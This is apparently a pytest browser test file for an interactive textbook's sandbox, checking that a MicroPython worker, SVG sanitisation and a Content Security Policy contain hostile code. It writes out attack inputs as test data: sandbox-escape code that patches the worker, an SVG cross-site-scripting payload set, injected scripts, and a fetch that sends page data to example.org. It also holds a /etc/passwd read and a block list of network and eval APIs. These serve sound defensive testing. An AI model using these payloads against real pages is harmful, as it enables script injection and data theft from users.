"""What a reader's code and a foreign script cannot reach: the worker's fence, the page's policy."""

import json
import re
from contextlib import contextmanager

import pytest

from tests.browser import page_of
from tests.page_python.in_browser import (
    OURS,
    RELU,
    Cell,
    cell_of,
    in_engines,
)  # fmt: skip
from tests.test_book import BOOK

pytestmark = pytest.mark.browser

# Shut in ------------------------------------------------------------------------------------------

# What reads a cell refuses the ways out of it (test_reading.py). Here such a way was found: the
# worker's Python draws what HOSTILE has under an explorer's label, by its own `import` and `exec`.
ESCAPED = """
run, hostile, drawing_of_the_book = exec, {}, Chart.drawing

def drawing_of_another(self, *words):
    scope = {{"text": drawing_of_the_book(self, *words)}}
    run(hostile.get(self.label, ""), scope)
    return scope["text"]

Chart.drawing = drawing_of_another
"""
IN_THE_WORKER = """(escaped) => {
  window.Worker = class extends Worker {
    postMessage(message) {
      if (message.modules) message.modules.cells["d2l_local/explorer/chart.py"] += escaped;
      super.postMessage(message);
    }
  };
}"""
FORBIDDEN = (
    "fetch XMLHttpRequest WebSocket EventSource WebTransport BroadcastChannel Worker SharedWorker "
    "importScripts indexedDB caches navigator localStorage document window self globalThis parent "
    "postMessage eval Function setTimeout setInterval queueMicrotask Object constructor __proto__"
)
LOOK_FOR = f"""
import js, jsffi, sys
found = [name for name in '{FORBIDDEN}'.split() if hasattr(js, name)]
said = [f'js: {{found}} {{dir(js)[3:]}}']
some, made = jsffi.to_js([1]), jsffi.create_proxy(lambda: 1)
for one in (some, some.push, made, jsffi.to_js({{'a': 1}})):
    kind = one.constructor
    for _ in range(4):
        kind = kind.constructor
    said.append(f"makes {{kind.name}} {{type(kind('return 1')).__name__}}")
said.append(f"host: {{[name for name in ('js', 'socket', 'requests') if name in sys.modules]}}")
raise ValueError('; '.join(said))
"""
SAID = (
    "js: [] []; makes Object JsProxy; makes Object JsProxy; makes Object JsProxy; "
    "makes Object JsProxy; host: []"
)
# What calls something that JavaScript has not raises, or ends the worker.
REACHING = (
    "import jsffi; jsffi.JsProxy(0).fetch('https://example.org')",
    "import jsffi; jsffi.to_js([]).constructor.constructor('return this')()",
    "import jsffi; jsffi.to_js([]).map.call.apply(1)",
    "import js; js.fetch('https://example.org')",
)


@contextmanager
def escaped_from(browser, address, hostile):
    """Open a cell whose explorers run hostile Python where their label names it."""
    with cell_of(browser, address, opened=False) as (cell, watcher):
        cell.page.evaluate(IN_THE_WORKER, ESCAPED.format(hostile))
        cell.open()
        yield cell, watcher


def draws(name):
    return f"explore(lambda x: x, label={name!r})"


@in_engines
def test_a_cell_that_breaks_out_of_its_modules_finds_nothing_of_the_browser(
    request, engine, address
):
    hostile = {"look": LOOK_FOR, **{str(i): code for i, code in enumerate(REACHING)}}
    with escaped_from(request.getfixturevalue(engine), address, hostile) as (cell, watcher):
        requests = []
        cell.page.on("request", lambda request: requests.append(request.url))
        kept = "Object.entries({...localStorage, ...sessionStorage})"
        before = dict(cell.page.evaluate(kept))
        assert cell.run(draws("look")).endswith(SAID)
        told = []
        for i in range(len(REACHING)):
            told.append(cell.run(draws(str(i))))
            assert cell.run("print('alive')") == ""
        assert all(one.startswith("✗ ") for one in told)
        assert any(one.startswith("✗ It did not run: ") for one in told)  # in a new worker since
        assert requests == [url for url in requests if url.startswith(("blob:", "data:"))]
        new = set(dict(cell.page.evaluate(kept))) - set(before)
        assert all(key.startswith("d2l_local.text:") for key in new)
        assert watcher.complaints == []


def test_what_leads_out_of_a_cell_is_refused(shared):
    absent = "js is not in the page's Python"
    for code, says in {
        "print(open('/etc/passwd').read())": "a page has no files",
        "import js\njs.fetch('https://example.org')": absent,
        "from js import fetch\nfetch('https://example.org')": absent,
        "__import__('js').fetch('https://example.org')": "__import__ is not for a page",
        "exec('import jsffi')\njsffi.to_js(1)": "exec is not for a page",
        "import sys\nsys.modules['js'].fetch('https://example.org')": "sys is not in the page's",
        "explore.__globals__['Chart']": "__globals__ is not for a page",
        "getattr(explore, '__glo' + 'bals__')": "the attribute __globals__ is not for a page",
    }.items():
        assert shared.run(code).startswith(f"✗ Line 1: {says}")
    assert shared.watcher.complaints == []


# Reads, after the worker has shut itself in, what its global object still has and what a function
# is made by; the worker's text is the page's, with this at its end.
PROBE = """
{
  const answer = onmessage;
  onmessage = async (event) => {
    const { getOwnPropertyNames, getPrototypeOf } = Object;
    await answer(event);
    const left = [];
    for (let one = globalThis; one && one !== Object.prototype; one = getPrototypeOf(one))
      left.push(...getOwnPropertyNames(one).filter((name) => globalThis[name] !== undefined));
    const makers = [() => {}, async () => {}, function* () {}, async function* () {}];
    postMessage({ left, makers: makers.map((one) => String(one.constructor?.name)) });
  };
}
"""
READ_THE_WORKER = f"""
(() => {{
  const [Plain, Asked] = [Blob, Worker];
  window.Blob = class extends Plain {{
    constructor(parts, options) {{
      const isWorker = parts.some((one) => typeof one === "string" && one.includes("shutIn"));
      super(isWorker ? [...parts, {json.dumps(PROBE)}] : parts, options);
    }}
  }};
  window.Worker = class extends Asked {{
    constructor(address) {{
      super(address);
      this.addEventListener("message", ({{ data }}) => data.left && (window.found = data));
    }}
  }};
}})();
"""
# The language itself, the messages to the page, and MicroPython's own.
HARMLESS = re.compile(
    r"(Array|ArrayBuffer|(Async)?Iterator|Bool(ean)?|DataView|Date|\w*Error|FinalizationRegistry|"
    r"(Big)?(Ui|I)nt\d+Array|Float\d+Array|BigInt|Infinity|Intl|JSON|Map|Math|NaN|Number|Object|Promise|"
    r"Proxy|Reflect|RegExp|Set|String|Symbol|Text(De|En)coder|Uint8ClampedArray|Weak(Map|Ref|Set)|"
    r"WebAssembly|console|constructor|globalThis|is(Finite|NaN)|parse(Float|Int)|performance|"
    r"TEMPORARY|PERSISTENT|Module|onmessage|postMessage|proxy_js_\w+|pyProxyFinalizationRegistry)"
)


@in_engines
def test_the_worker_is_left_with_the_language_and_its_messages(request, engine, address):
    browser = request.getfixturevalue(engine)
    with page_of(browser, f"{address}/{RELU}.html", address) as (page, watcher):
        page.evaluate(READ_THE_WORKER)
        Cell(page).open()
        page.wait_for_function("() => window.found")
        found = page.evaluate("window.found")
        assert len(found["left"]) > 40
        assert [name for name in found["left"] if not HARMLESS.fullmatch(name)] == []
        assert set(found["makers"]) <= {"Object", "undefined", ""}
        assert watcher.complaints == []


SPOILED = r"""
evil = ('<script>document.title = "spoiled"</script>'
    '<foreignObject><p>spoiled</p></foreignObject>'
    '<a href="javascript:alert(1)"><text>spoiled</text></a><image href="https://example.org/1"/>'
    '<use href="https://example.org/2"/><animate attributeName="fill" onbegin="alert(1)"/>'
    '<rect width="9" height="9" onclick="alert(1)" style="fill: red" fill="url(https://example.org/3)"/>'
    '<rect width="9" height="9" stroke="\\75rl(//example.org/4)" fill="URL(//example.org/5)"/>'
    '<style>@import "https://example.org/6"; text {color: red}</style><text>last</text></svg>')
text = text.replace('<svg ', '<svg onload="alert(1)" ', 1)[:-6] + evil
"""  # fmt: skip


@in_engines
def test_a_drawing_is_copied_without_what_acts_or_leads_elsewhere(request, engine, address):
    browser = request.getfixturevalue(engine)
    with escaped_from(browser, address, {"evil": SPOILED}) as (cell, watcher):
        assert cell.run(draws("evil")).startswith(OURS)
        cell.output.locator(".explorer[data-alive]").wait_for()
        chart = cell.output.locator("svg.chart")
        assert "last" in chart.locator("text").all_text_contents()  # the copy went to the end
        assert chart.locator("script, foreignObject, a, image, use, animate, p").count() == 0
        html = chart.evaluate("one => one.outerHTML")
        assert (
            re.findall(r"\son\w+=|style=|href|example|url|javascript|import|spoiled", html, re.I)
            == []
        )
        # Nothing was asked of another site; Chromium tells what the page's policy has refused too.
        assert [one for one in watcher.complaints if "Content Security Policy" not in one] == []


# The page's own policy ----------------------------------------------------------------------------

FOREIGN = """() => {
  const inline = document.createElement("script");
  inline.textContent = "document.title = 'spoiled'";
  const evil = document.createElement("img");
  evil.setAttribute("onerror", "document.title = 'spoiled'");
  evil.src = "data:,";
  const data = document.createElement("script");
  data.src = "data:text/javascript,document.title = 'spoiled'";
  const other = document.createElement("script");
  other.src = "https://example.org/foreign.js";
  const base = document.createElement("base");
  base.href = "https://example.org/";
  document.head.append(base, inline, data, other);
  document.body.append(evil);
  try { setTimeout("document.title = 'spoiled'"); } catch { /* refused */ }
  fetch("https://example.org/sent?" + document.title).catch(() => {});
  new Image().src = "https://example.org/sent";
}"""


@pytest.mark.parametrize("origin", ["address", "folder"])
@in_engines
def test_what_is_put_into_a_page_does_not_run_and_leads_nowhere(request, engine, address, origin):
    origin = address if origin == "address" else BOOK.as_uri()
    browser = request.getfixturevalue(engine)
    with page_of(browser, f"{origin}/{RELU}.html", origin, alone=True) as (page, watcher):
        page.evaluate(FOREIGN)
        page.wait_for_timeout(300)
        assert "spoiled" not in page.title()
        assert [url for url in watcher.requested if "example.org" in url] == []
        assert page.evaluate("document.baseURI").startswith(origin)
        watcher.complaints.clear()
        cell = Cell(page).open()  # and the book's own scripts, worker and pictures still do
        assert cell.run("explore(np.tanh)").startswith(OURS)
        cell.output.locator(".explorer[data-alive]").wait_for()
        assert watcher.complaints == []


def test_each_page_has_a_policy_that_knows_its_scripts_alone():
    pages = [path for path in BOOK.rglob("*.html") if "_static" not in path.parts]
    assert len(pages) > 20
    for path in pages:
        text = path.read_text("utf-8")
        if 'http-equiv="refresh"' in text:
            continue
        (policy,) = re.findall(
            r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', text
        )
        scripts = re.search(r"script-src ([^;]*);", policy)[1].split()
        plain = {one for one in scripts if not one.startswith("'sha256-")}
        assert plain == {"'self'", "file:", "'wasm-unsafe-eval'", "'unsafe-hashes'"}, path
        for kind in ("object-src", "frame-src", "media-src", "base-uri"):
            assert f"{kind} 'none'" in policy
        assert "default-src 'self' file:;" in policy and "connect-src 'self';" in policy
        assert text.index("Content-Security-Policy") < text.index("<script")


REFUSALS = {
    "scripts": "script-src 'none'",
    "scripts in the page": "script-src 'self'",
}


@pytest.mark.parametrize("policy", REFUSALS.values(), ids=REFUSALS)
def test_where_a_host_refuses_scripts_the_words_that_stand_for_them_are_shown(
    browser, address, policy
):
    with page_of(browser, "about:blank", address, wait=False, alone=True) as (page, _):

        def refuse(route):
            answer = route.fetch()
            route.fulfill(
                response=answer, headers={**answer.headers, "content-security-policy": policy}
            )

        page.route("**/*.html", refuse)
        page.goto(f"{address}/{RELU}.html")
        still = page.locator(".explorer .still").first
        assert still.evaluate("one => getComputedStyle(one).visibility") == "visible"
        assert "allow its script" in still.inner_text()
        assert page.locator(".quiz .still").first.is_visible()


def test_the_address_of_a_folder_leads_on_and_its_first_page_can_be_edited(browser, address):
    with page_of(browser, f"{address}/chapters/", address) as (page, watcher):
        cell = Cell(page)
        assert cell.open().run("print('alive')") == ""
        cell.write("print('kept')")
        page.goto(f"{address}/chapters/index.html")
        cell.bar.get_by_text("What you wrote here last time is kept.").wait_for()
        for folder in ("exercises", "reference"):
            page.goto(f"{address}/{folder}/")
            page.wait_for_url(f"**/{folder}/*.html")
            assert page.locator("article h1").count() == 1
        assert watcher.complaints == []
